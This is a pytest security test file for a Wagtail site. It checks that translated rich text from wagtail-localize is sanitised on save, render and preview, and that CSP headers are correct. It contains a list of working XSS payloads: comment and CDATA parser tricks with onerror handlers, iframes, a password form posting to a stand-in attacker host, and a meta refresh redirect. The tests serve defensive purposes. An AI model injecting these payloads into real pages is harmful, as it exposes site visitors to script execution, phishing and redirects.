"""Translated rich text carries only the markup its editor features allow (issue 14).

wagtail-localize keeps comment, CDATA, processing-instruction and declaration nodes of a
translated rich-text segment, and a browser splits some of them where Python's parser does not
(``<!--><img onerror=…>-->``): a translator could put images, frames, forms, styles or a
``<meta http-equiv=refresh>`` on a public page. These tests go through wagtail-localize itself,
then check what is stored, what readers get and what previews get.
"""

import json

from django.apps import apps
from django.conf import settings
from django.contrib.auth import get_user_model
from django.template import Context, Template
from django.urls import reverse

from wagtail import blocks
from wagtail.fields import RichTextField, StreamField
from wagtail.models import Page
from wagtail.rich_text import RichText
from wagtail.test.utils.form_data import inline_formset, nested_form_data, rich_text, streamfield
from wagtail_localize.models import StringSegment, StringTranslation, Translation
from wagtail_localize.operations import translate_object

import html5lib
import pytest

from events.models import EventPage
from films.models import FilmPage
from home.models import HomePage, StandardPage
from news.models import NewsPage
from site_core.models import Footer
from tests.factories import StandardPageFactory
from tests.utils import locale

pytestmark = pytest.mark.django_db

# What a hostile translator can type into a segment and wagtail-localize accepts. Several are
# split by a browser into a harmless node followed by a real element.
HOSTILE = [
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--><img src=x onerror=alert(2)>-->",
    "<!---><img src=x onerror=alert(3)>-->",
    "<!--x--!><iframe src=//evil.example/></iframe>-->",
    "<![CDATA[<iframe src=//evil.example/>]]>",
    "<![CDATA[><iframe src=//evil.example/>]]>",
    "<![CdAtA[><form action=//evil.example/><input name=password></form>]]>",
    "<![temp[><meta http-equiv=refresh content=0;url=//evil.example/>]]>",
    "<![ignore[><style>body{display:none}</style>]]>",
    "<!DOCTYPE x><meta http-equiv=refresh content=0;url=//evil.example/>",
    "<?xml version=1.0?><object data=//evil.example/></object>",
    # encoded: text that only looks like markup, and must stay text
    "&lt;!--&gt;&lt;img src=x onerror=alert(4)&gt;--&gt;",
    "<!--&gt;<img src=x onerror=alert(5)>-->",
]
# What the paragraph block and the rich-text fields of this site may hold (bold, italic, link,
# lists, h3, h4), after expansion for readers.
ALLOWED_TAGS = {"p", "br", "b", "strong", "i", "em", "a", "ol", "ul", "li", "h3", "h4"}
# Left-overs of a removed node must not show as text either. (A "?>" may: wagtail-localize itself
# writes "<![temp[…]]>" back as "<?temp[…>?&gt;", escaping that end into text.)
DECLARATION_MARKERS = ("<!", "<?", "]]&gt;")


def parse_fragment(html):
    return html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=False)


def assert_inert(html, allowed=ALLOWED_TAGS):
    """No element but ``allowed``, no event handler, nothing that points at the attacker, and no
    comment/CDATA/declaration left (neither as a node nor as visible leftovers)."""
    for element in parse_fragment(html).iter():
        if not isinstance(element.tag, str) or element.tag == "DOCUMENT_FRAGMENT":
            assert element.tag == "DOCUMENT_FRAGMENT", f"comment or other node in {html!r}"
            continue
        assert element.tag in allowed, f"<{element.tag}> in {html!r}"
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), f"{name} in {html!r}"
            assert "evil" not in value, f"{name}={value} in {html!r}"
    for marker in DECLARATION_MARKERS:
        assert marker not in html, f"{marker} in {html!r}"


def assert_page_inert(response):
    """The whole page: no event handler, no element that points at the attacker, no refresh;
    and inside every rich-text area, only the allowed elements."""
    assert response.status_code == 200
    document = html5lib.parse(
        response.content.decode(), treebuilder="etree", namespaceHTMLElements=False
    )
    for element in document.iter():
        if not isinstance(element.tag, str):
            continue
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), f"<{element.tag} {name}> on the page"
            assert "evil" not in value, f"<{element.tag} {name}={value}> on the page"
        assert not (element.tag == "meta" and "http-equiv" in element.attrib)
        assert element.tag not in {"iframe", "object", "embed", "frame", "form"} or (
            element.tag == "form" and "evil" not in element.get("action", "")
        )
    areas = [
        element
        for element in document.iter("div")
        if {"rich-text", "site-footer__contact"} & set(element.get("class", "").split())
    ]
    assert areas, "no rich text on the page"
    for area in areas:
        for element in area.iter():
            if element is not area and isinstance(element.tag, str):
                assert element.tag in ALLOWED_TAGS, f"<{element.tag}> in rich text"
    return document


def stored_paragraphs(page):
    page = Page.objects.get(pk=page.pk).specific
    return [raw["value"] for raw in page.body.raw_data if raw["type"] == "paragraph"]


def english_home():
    return HomePage.objects.get(locale__language_code="en", depth=2)


# --- through wagtail-localize -----------------------------------------------------------------


@pytest.fixture
def hostile_translation():
    """An English page whose paragraphs have a page link and bold text, translated into Dutch by
    a translator who appended one hostile payload to each paragraph's segment."""
    home = english_home()
    paragraphs = "".join(
        f'<p>Paragraph {index}: read <a linktype="page" id="{home.pk}">our appeal</a> '
        f"and <b>sign</b> it.</p>"
        for index in range(len(HOSTILE))
    )
    page = StandardPageFactory.build(
        title="Rich text under attack", slug="rich-text-under-attack", body=[]
    )
    page.body = [("paragraph", RichText(paragraphs))]
    home.add_child(instance=page)
    page.save_revision().publish()
    translate_object(page, [locale("nl")])
    translation = Translation.objects.get(
        source__object_id=page.translation_key, target_locale__language_code="nl"
    )
    for segment in StringSegment.objects.filter(source=translation.source).select_related(
        "string", "context"
    ):
        data = segment.string.data
        if data.startswith("Paragraph "):
            index = int(data.split(":")[0].split()[1])
            data = (
                f'Alinea {index}: lees <a id="a1">onze oproep</a> en <b>teken</b> hem. '
                f"{HOSTILE[index]}"
            )
        StringTranslation.objects.update_or_create(
            translation_of=segment.string,
            locale=translation.target_locale,
            context=segment.context,
            defaults={"data": data, "translation_type": "manual"},
        )
    return page, translation


def test_wagtail_localize_accepts_the_hostile_segments(hostile_translation):
    # The premise: wagtail-localize's own check lets most of these through.
    _page, translation = hostile_translation
    accepted = StringTranslation.objects.filter(
        locale=translation.target_locale, data__contains="Alinea", has_error=False
    )
    assert accepted.count() >= 10


def test_a_saved_translation_stores_only_the_markup_its_block_allows(hostile_translation):
    page, translation = hostile_translation
    translation.save_target(publish=False)
    dutch = page.get_translation(locale("nl"))

    paragraphs = stored_paragraphs(dutch)
    assert paragraphs
    for html in paragraphs:
        assert_inert(html)
        assert 'linktype="page"' in html
    stored = "".join(paragraphs)
    accepted = stored.count("<p>Alinea")
    assert accepted >= 10
    # the translator's own link and bold text survive
    assert stored.count("<b>teken</b>") == stored.count("onze oproep</a>") == accepted
    # the encoded payload stays what the translator typed: text; no comment leaves a "-->"
    assert "&lt;img src=x onerror=alert(4)&gt;" in stored
    assert not [p for p in stored.split("</p>") if "--&gt;" in p and "&lt;!--" not in p]

    # the draft revision the reviewer will publish is clean too
    revision = dutch.get_latest_revision()
    body = revision.content["body"]
    for block in json.loads(body) if isinstance(body, str) else body:
        if block["type"] == "paragraph":
            assert_inert(block["value"])


def test_readers_of_a_published_translation_get_no_hostile_markup(client, hostile_translation):
    page, translation = hostile_translation
    translation.save_target(publish=False)
    dutch = page.get_translation(locale("nl"))
    dutch.get_latest_revision().publish()

    response = client.get(dutch.url)
    assert_page_inert(response)
    content = response.content.decode()
    assert "<b>teken</b>" in content
    document = html5lib.parse(content, treebuilder="etree", namespaceHTMLElements=False)
    # (segments wagtail-localize refused as invalid fall back to the English text)
    links = [a for a in document.iter("a") if a.text in {"onze oproep", "our appeal"}]
    assert len(links) == len(HOSTILE) and all(a.get("href") for a in links)


def test_the_translation_preview_shows_no_hostile_markup(client, hostile_translation):
    # wagtail-localize's preview renders the translation from its segments, never saved.
    _page, translation = hostile_translation
    client.force_login(superuser())
    response = client.get(reverse("wagtail_localize:preview_translation", args=[translation.pk]))
    assert_page_inert(response)
    assert "onze oproep" in response.content.decode()


# --- every rich-text field of the site, on save -----------------------------------------------


def discovered_rich_text_fields():
    """(model, field) for every RichTextField and every StreamField with a RichTextBlock."""

    def holds_rich_text(block):
        if isinstance(block, blocks.RichTextBlock):
            return True
        children = getattr(block, "child_blocks", None) or {}
        child = getattr(block, "child_block", None)
        return any(holds_rich_text(c) for c in [*children.values(), *([child] if child else [])])

    return {
        (model, field.name)
        for model in apps.get_models()
        for field in model._meta.concrete_fields
        if isinstance(field, RichTextField)
        or (isinstance(field, StreamField) and holds_rich_text(field.stream_block))
    }


RICH_TEXT_FIELDS = [
    (HomePage, "body"),
    (StandardPage, "body"),
    (NewsPage, "body"),
    (EventPage, "body"),
    (FilmPage, "synopsis"),
    (Footer, "contact_text"),
]


def test_every_rich_text_field_of_the_site_is_covered_here():
    assert discovered_rich_text_fields() == set(RICH_TEXT_FIELDS)


def hostile_html(page_id):
    return "".join(
        f'<p>Lees <a linktype="page" id="{page_id}">onze oproep</a> en <b>teken</b> hem.{payload}'
        f'<a href="https://example.org/" onclick="alert(6)">bron</a></p>'
        for payload in HOSTILE
    )


def set_rich_text(instance, field, html):
    if field == "body":
        instance.body = [("paragraph", RichText(html))]
    else:
        setattr(instance, field, html)


def stored_rich_text(instance, field):
    instance = type(instance).objects.get(pk=instance.pk)
    if field == "body":
        return "".join(raw["value"] for raw in instance.body.raw_data)
    return getattr(instance, field)


@pytest.mark.parametrize(("model", "field"), RICH_TEXT_FIELDS)
def test_saving_a_dutch_page_or_snippet_stores_only_allowed_markup(model, field):
    instance = model.objects.filter(locale__language_code="nl").first()
    set_rich_text(instance, field, hostile_html(english_home().pk))
    if isinstance(instance, Page):
        instance.save_revision().publish()
    else:
        instance.save()
    stored = stored_rich_text(instance, field)
    assert_inert(stored)
    assert "<b>teken</b>" in stored and "onze oproep</a>" in stored
    assert '<a href="https://example.org/">bron</a>' in stored


def test_english_source_is_stored_as_written_so_translations_stay_matched():
    # wagtail-localize keys translations on the source's exact text: the guard leaves it alone
    # (English comes from the editor's own converter; readers are still protected on render).
    page = StandardPage.objects.filter(locale__language_code="en").first()
    html = '<p>One<br/>two <a linktype="page" id="3">three</a></p>'
    page.body = [("paragraph", RichText(html))]
    page.save_revision().publish()
    assert stored_rich_text(page, "body") == html


# --- on render: what was stored before, or past save() ----------------------------------------


def test_rich_text_stored_past_save_is_cleaned_when_rendered(client):
    hostile = hostile_html(english_home().pk)
    dutch = NewsPage.objects.filter(locale__language_code="nl", live=True).first()
    dutch.body = [("paragraph", RichText(hostile))]
    NewsPage.objects.filter(pk=dutch.pk).update(body=dutch.body)  # no save(), no signal
    Footer.objects.filter(locale__language_code="nl").update(contact_text=hostile)
    film = FilmPage.objects.filter(locale__language_code="nl", live=True).first()
    FilmPage.objects.filter(pk=film.pk).update(synopsis=hostile)

    for url in (dutch.url, film.url):
        response = client.get(url)
        assert_page_inert(response)
        content = response.content.decode()
        assert "<b>teken</b>" in content and "onze oproep</a>" in content
        assert '<a href="https://example.org/">bron</a>' in content


def test_richtext_filter_and_rich_text_block_value_render_only_allowed_markup():
    hostile = hostile_html(english_home().pk)
    as_filter = Template("{% load wagtailcore_tags %}{{ value|richtext }}")
    assert_inert(as_filter.render(Context({"value": hostile})))
    as_block = Template("{{ value }}")
    assert_inert(as_block.render(Context({"value": RichText(hostile)})))
    assert_inert(str(blocks.RichTextBlock().render(RichText(hostile))))


# --- previews ---------------------------------------------------------------------------------


def superuser():
    user, _created = get_user_model().objects.get_or_create(
        username="rich-text-admin", defaults={"email": "rich-text-admin@example.org"}
    )
    user.is_superuser = user.is_staff = True
    user.save()
    return user


def policy(response):
    header = response.headers["Content-Security-Policy"]
    return {
        name: values
        for name, *values in (part.split() for part in header.split(";") if part.strip())
    }


def assert_public_policy_framed_by_the_admin(response):
    csp = policy(response)
    public = {
        name: [str(value) for value in values] for name, values in settings.SECURE_CSP.items()
    }
    assert csp["script-src"] == public["script-src"] == ["'self'"]  # no inline script
    assert not any("unsafe" in value for values in csp.values() for value in values)
    assert csp["frame-ancestors"] == ["'self'"]  # the editor's preview panel frames it
    assert {name: values for name, values in csp.items() if name != "frame-ancestors"} == {
        name: values for name, values in public.items() if name != "frame-ancestors"
    }


def test_the_editors_preview_gets_the_public_policy_and_can_be_framed_by_the_admin(client):
    # Previews render the public template under /admin/: they must not get the admin's policy
    # (inline scripts allowed), and the preview panel (an iframe of the admin) must still work.
    client.force_login(superuser())
    page = StandardPage.objects.filter(locale__language_code="nl").first()
    url = reverse("wagtailadmin_pages:preview_on_edit", args=[page.pk])
    form = nested_form_data(
        {
            "title": page.title,
            "slug": page.slug,
            "intro": "",
            "body": streamfield([("paragraph", rich_text("<p>Voorbeeldtekst</p>"))]),
            "comments": inline_formset([]),
        }
    )
    assert client.post(url, form).json()["is_valid"]
    response = client.get(url, {"in_preview_panel": "true"})
    assert response.status_code == 200
    assert "Voorbeeldtekst" in response.content.decode()
    assert response.headers["X-Frame-Options"] == "SAMEORIGIN"
    assert_public_policy_framed_by_the_admin(response)


def test_the_translation_preview_gets_the_public_policy(client, hostile_translation):
    _page, translation = hostile_translation
    client.force_login(superuser())
    response = client.get(reverse("wagtail_localize:preview_translation", args=[translation.pk]))
    assert response.status_code == 200
    assert_public_policy_framed_by_the_admin(response)


def test_the_admin_and_the_public_site_keep_their_own_policies(client):
    client.force_login(superuser())
    assert policy(client.get(reverse("wagtailadmin_home")))["script-src"] == [
        "'self'",
        "'unsafe-inline'",
    ]
    client.logout()
    public = policy(client.get("/en/"))
    assert public["frame-ancestors"] == ["'none'"]
